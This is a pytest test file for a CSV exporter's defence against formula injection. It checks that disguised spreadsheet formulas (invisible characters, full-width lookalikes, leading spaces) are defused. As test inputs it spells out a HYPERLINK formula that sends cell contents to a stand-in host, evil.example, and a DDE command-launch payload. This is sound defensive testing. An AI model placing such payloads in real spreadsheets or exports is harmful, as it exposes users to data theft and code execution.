"""CSV cells a spreadsheet would run as formulas are defused, however the formula is disguised."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from netinbox.exporters.csvsafe import _INVISIBLE, looks_like_formula, neutralise, to_csv_bytes
from netinbox.text import clean

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\u2212")

# What a renderer draws as nothing (see csvsafe._IGNORABLE), a sample from each range.
INVISIBLE = [
    "\u200b",  # zero width space
    "\u200c",  # zero width non-joiner
    "\u200d",  # zero width joiner
    "\u200e",  # left-to-right mark
    "\u200f",  # right-to-left mark
    "\u2060",  # word joiner
    "\u2061",  # function application
    "\u2062",  # invisible times
    "\u2063",  # invisible separator
    "\u2064",  # invisible plus
    "\ufeff",  # byte order mark / zero width no-break space
    "\u180e",  # Mongolian vowel separator
    "\u00ad",  # soft hyphen
    "\u034f",  # combining grapheme joiner
    "\u061c",  # Arabic letter mark
    "\u3164",  # Hangul filler
    "\ufe0f",  # variation selector 16
    "\ufff9",  # interlinear annotation anchor (a format character outside the ignorables)
    "\U000e0041",  # tag latin capital A
    "\U000e0001",  # language tag
]

# Forms that NFKC folds to a formula character, and the minus sign that it keeps.
LOOKALIKES = {
    "\uff1d": "=",  # full-width equals
    "\ufe66": "=",  # small equals
    "\u207c": "=",  # superscript equals
    "\u208c": "=",  # subscript equals
    "\u2a75": "=",  # two consecutive equals: NFKC makes "=="
    "\uff0b": "+",  # full-width plus
    "\ufe62": "+",  # small plus
    "\u207a": "+",  # superscript plus
    "\u208a": "+",  # subscript plus
    "\uff0d": "-",  # full-width hyphen-minus
    "\ufe63": "-",  # small hyphen-minus
    "\u2212": "\u2212",  # minus sign
    "\u207b": "\u2212",  # superscript minus: NFKC makes U+2212
    "\u208b": "\u2212",  # subscript minus
    "\uff20": "@",  # full-width commercial at
    "\ufe6b": "@",  # small commercial at
}

# Spaces a spreadsheet may skip before it looks, or that a reader does not see.
SPACES = [" ", "   ", "\u00a0", "\u3000", "\u2003", "\u202f", "\n", " \n "]


def check_text(cell: str) -> list[str]:
    """The cell as a spreadsheet or a reader may take it: folded both ways, invisibles gone."""
    invisible = "".join(INVISIBLE)

    def strip(text: str) -> str:
        text = "".join(c for c in text if c not in invisible)
        return "".join(c for c in text if unicodedata.category(c) != "Cf")

    folded = [
        cell,
        strip(cell),
        strip(unicodedata.normalize("NFKC", cell)),
        unicodedata.normalize("NFKC", strip(cell)),
        unicodedata.normalize("NFKC", strip(cell).lstrip()[:1]),  # "＝" + U+0338 makes "≠"
    ]
    return folded + [text.lstrip() for text in folded]


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-Acme", "'-Acme"),
        ("@coffee", "'@coffee"),
        ("\t=x", "'\t=x"),
        ("\tplain", "'\tplain"),  # a leading tab is a formula start of its own (OWASP)
        ("\r=x", "'=x"),  # clean() drops a lone CR; what is left is still defused
        (
            '=HYPERLINK("https://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
        ),
        ("Ana", "Ana"),
        ("", ""),
        (None, ""),
        (True, "yes"),
        (False, "no"),
        (("a", "=b"), "a; =b"),  # only the start of the cell counts
        (("=a", "b"), "'=a; b"),
        ("a = b", "a = b"),
        ("e-mail", "e-mail"),
        ("'quoted", "'quoted"),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_defused(value, safe) -> None:
    assert neutralise(value) == safe


@pytest.mark.parametrize("char", sorted(LOOKALIKES))
def test_each_lookalike_of_a_formula_character_is_defused(char: str) -> None:
    cell = char + 'HYPERLINK("https://evil.example")'
    assert unicodedata.normalize("NFKC", cell).startswith(LOOKALIKES[char])
    assert neutralise(cell) == "'" + cell


def test_the_written_out_character_sets_hold_for_this_pythons_unicode() -> None:
    # Both shortcuts are written out for speed; a newer Unicode that breaks one shows up here.
    format_chars, folding_letters = [], []
    for cp in range(0x110000):
        char = chr(cp)
        category = unicodedata.category(char)
        if category == "Cf" and not _INVISIBLE.match(char):
            format_chars.append(hex(cp))  # every format character counts as invisible
        elif category[0] in "LN" and not _INVISIBLE.match(char):
            folded = unicodedata.normalize("NFKC", char).lstrip()
            if folded.startswith(FORMULA_START):  # no letter or digit folds to a formula start
                folding_letters.append(hex(cp))
    assert (format_chars, folding_letters) == ([], [])
    assert all(_INVISIBLE.match(c) for c in INVISIBLE)


@pytest.mark.parametrize("invisible", INVISIBLE)
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\uff1d", "\u2212"])
def test_an_invisible_character_in_front_does_not_hide_a_formula(
    invisible: str, start: str
) -> None:
    cell = invisible + start + "1+1"
    assert neutralise(cell) == "'" + cell  # the data is kept, only prefixed


@pytest.mark.parametrize("space", SPACES)
@pytest.mark.parametrize("start", ["=", "@", "\uff0b", "\ufe63"])
def test_spaces_in_front_do_not_hide_a_formula(space: str, start: str) -> None:
    cell = space + start + "SUM(A1:A9)"
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    [
        "\ufeff\u200b\uff1d1+1",  # BOM, zero width space, full-width equals
        "\u200b \u00a0\u2060=cmd|' /C calc'!A0",  # invisibles and spaces interleaved, DDE
        "\u3000\u200d\ufe66x",
        "\u00ad\u00ad\u00ad\u00ad@x",
        "\u200b" * 500 + "=x",  # a long run in front
        "\u202e=x",  # a bidi override (clean() removes it: the rest is still defused)
        "=\u0338x",  # NFC composes "=" + U+0338 into "≠", but a spreadsheet sees "="
        "\uff1d\u0338x",
        "\u2a75",
    ],
)
def test_combinations_are_defused(cell: str) -> None:
    result = neutralise(cell)
    assert result.startswith("'") and result[1:] in (cell, cell.replace("\u202e", ""))


@pytest.mark.parametrize(
    "cell",
    [
        "Ana Silva",
        "\u200bAna",  # an invisible character before ordinary text
        " Ana",
        "\uff21na",  # full-width A
        "\u2013 en dash",  # no spreadsheet reads an en dash as a minus
        "\u2014 em dash",
        "\u2260 not equal",
        "\u00b1 plus-minus",
        "(555) 123",
        "2026-03-01T09:00:00+00:00",
        "a=b",
        "100%",
        "\u0661\u0662",  # Arabic-Indic digits
        "\u6771\u4eac",
    ],
)
def test_ordinary_text_is_left_as_it_is(cell: str) -> None:
    assert neutralise(cell) == cell


def test_netinbox_s_own_numbers_stay_numbers_but_text_that_looks_like_one_does_not() -> None:
    assert neutralise(-3) == "-3"  # days waiting, for a note dated in the future
    assert neutralise(12) == "12"
    assert neutralise("-3") == "'-3"  # a stranger's text: "-3" could as well be "-3+cmd|..."


# Pieces that matter at the start of a cell, mixed with any character at all.
PIECES = INVISIBLE + list(LOOKALIKES) + SPACES + ["=", "+", "-", "@", "\t", "\r", "\u0338", "'"]


@given(st.lists(st.sampled_from(PIECES) | st.characters(), max_size=12).map("".join))
@example("\ufeff\u200b\uff1d1")
@example("=\u0338")
@example("\uff1d\u0338")
@example("\u2a75")
def test_no_cell_looks_like_a_formula_unless_it_starts_with_an_apostrophe(text: str) -> None:
    cell = neutralise(text)
    data = clean(text)  # the stranger's text as netinbox stores it
    assert cell in (data, "'" + data)  # the data is kept, at most prefixed
    if cell.startswith("'"):
        return
    for candidate in check_text(cell):
        assert not candidate.startswith(FORMULA_START), (text, candidate)


@given(st.lists(st.text(), max_size=4))
def test_a_list_cell_is_judged_by_its_start(values: list[str]) -> None:
    cell = neutralise(values)
    assert cell.startswith("'") or not looks_like_formula(cell)


def test_the_csv_file_carries_the_defused_cells() -> None:
    data = to_csv_bytes(("name", "days"), [{"name": "\u200b\uff1d1+1", "days": -2}])
    assert data.startswith(b"\xef\xbb\xbf")
    header, row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert header == ["name", "days"] and row == ["'\u200b\uff1d1+1", "-2"]
